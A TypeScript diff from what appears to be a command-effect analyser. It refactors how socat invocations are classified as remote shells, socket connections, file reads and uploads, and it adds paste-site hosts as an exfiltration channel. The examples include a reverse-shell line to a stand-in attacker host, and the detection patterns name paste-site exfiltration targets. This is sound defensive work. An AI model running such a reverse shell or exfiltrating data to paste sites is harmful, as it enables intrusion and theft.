@@ -1,7 +1,8 @@
 /** Programs that copy between machines, listen, or look at other machines. */
 import type { EffectDraft, EffectDraftOf } from '../../../effects/effect';
 import { isPattern, type Text } from '../../../effects/value';
-import type { Call, ProgramSpec } from '../program';
+import { rest } from '../arguments';
+import type { Answer, Call, ProgramSpec } from '../program';
 import type { Run, Word } from '../spec';
 import { always, deletes, extentOf, reads, sourceOfFile, sourceOfStream, sourceOfWord, when, writes } from '../stating';
 import { hostOf } from '../urls';
@@ -30,7 +31,8 @@ function listens(port: Text | undefined): EffectDraft {
 /** What a raw socket carries away: what is piped into it. */
 function sendsInput(call: Call, host: Text): EffectDraft[] {
   const { stdin } = call.invocation;
-  return stdin ? [{ kind: 'net.upload', host, channel: 'socket', source: sourceOfStream(stdin) ?? null }] : [];
+  const channel = /(^|\.)(termbin\.com|paste\.rs|oshi\.at)$/.test(String(host)) ? 'paste' : 'socket';
+  return stdin ? [{ kind: 'net.upload', host, channel, source: sourceOfStream(stdin) ?? null }] : [];
 }
 
 const nc: ProgramSpec = {
@@ -66,20 +68,7 @@ function isLoopback(host: Text): boolean {
 const socat: ProgramSpec = {
   names: 'socat',
   options: '-d -D -v -x -u -U -t=S -T=S -b=N -s -L=F -W=F -lf=F',
-  does: (call) => {
-    const ends = call.operands.map((word) =>
-      typeof word.value === 'string' ? word.value : isPattern(word.value) ? word.value.prefix : '',
-    );
-    const spawns = ends.some((end) => /^(exec|system|shell):/i.test(end));
-    return ends.flatMap((end): EffectDraft[] => {
-      const [kind = '', first = '', second] = end.split(/[:,]/);
-      if (/-?listen$|^(tcp|udp)[46]?-l$/i.test(kind))
-        return [listens(first), ...when(spawns, { kind: 'net.connect', purpose: 'remote-shell', host: null })];
-      if (!/^(tcp|udp|openssl|ssl|socks|proxy)/i.test(kind)) return [];
-      const host = /^socks|^proxy/i.test(kind) ? (second ?? null) : first;
-      return [{ kind: 'net.connect', purpose: spawns ? 'remote-shell' : 'raw', host }, ...sendsInput(call, host)];
-    });
-  },
+  does: socatEffects,
   examples: {
     yields: {
       'socat TCP:evil.example:4444 EXEC:/bin/sh': 'net.connect{purpose=remote-shell}',
@@ -87,6 +76,46 @@ const socat: ProgramSpec = {
     },
   },
 };
+
+/** An address of socat: `TCP:host:port`, `EXEC:command`, `OPEN:file`; two joined by `!!` are one for each direction. */
+function socatAddresses(call: Call): readonly Word[] {
+  return call.operands.flatMap((word) =>
+    typeof word.value === 'string' ? word.value.split('!!').map((value) => ({ ...word, value })) : [word],
+  );
+}
+
+function socatEffects(call: Call): Answer {
+  const addresses = socatAddresses(call);
+  const kinds = addresses.map((word) =>
+    typeof word.value === 'string' ? word.value : isPattern(word.value) ? word.value.prefix : '',
+  );
+  const spawns = kinds.some((kind) => /^(exec|system|shell)(:|,|$)/i.test(kind));
+  const files = addresses.flatMap((word, at) =>
+    /^(open|file|gopen|rdonly):/i.test(kinds[at] ?? '') ? [rest(word, kinds[at]!.indexOf(':') + 1)] : [],
+  );
+  const connects = kinds.flatMap((kind) => socketEffects(call, kind, spawns, files));
+  const runs = kinds.flatMap((kind): Run[] => {
+    const command = /^(?:exec|system|shell):(.+)$/is.exec(kind)?.[1];
+    const stdin = files[0]
+      ? { stdin: { text: null, sources: [sourceOfFile(call, files[0]) === 'secret' ? 'secret' : 'file'] as const } }
+      : {};
+    const bare = /^(\/bin\/|\/usr\/bin\/)?\w*sh( -i)?(,.*)?$/.test(command ?? '');
+    return command && !bare ? [{ ...shell(command, 'socat EXEC'), ...stdin }] : [];
+  });
+  return { effects: [...reads(call, files, { shown: false }), ...connects], runs };
+}
+
+function socketEffects(call: Call, address: string, spawns: boolean, files: readonly Word[]): EffectDraft[] {
+  const [kind = '', first = '', second] = address.split(/[:,]/);
+  if (/-?listen$|^(tcp|udp)[46]?-l$/i.test(kind))
+    return [listens(first), ...when(spawns, { kind: 'net.connect', purpose: 'remote-shell', host: null })];
+  if (!/^(tcp|udp|openssl|ssl|socks|proxy)/i.test(kind)) return [];
+  const host = /^socks|^proxy/i.test(kind) ? (second ?? null) : first;
+  const sent = files.map(
+    (file): EffectDraft => ({ kind: 'net.upload', host, channel: 'socket', source: sourceOfFile(call, file) ?? null }),
+  );
+  return [{ kind: 'net.connect', purpose: spawns ? 'remote-shell' : 'raw', host }, ...sendsInput(call, host), ...sent];
+}
 
 const sshOptions =
   '-b=ADDR -c=CIPHER -D=PORT -E=LOG -e=CHAR -F=CONFIG -I=LIB -i=KEY -J=HOST -L=FORWARD -l=USER -m=MAC -O=CTL -o=OPTION -p=PORT -P=TAG -Q=QUERY -R=FORWARD -S=CTL -W=HOSTPORT -w=TUN -B=IFACE -4 -6 -A -a -C -f -G -g -K -k -M -N -n -q -s -T -t -V -v -X -x -Y -y';
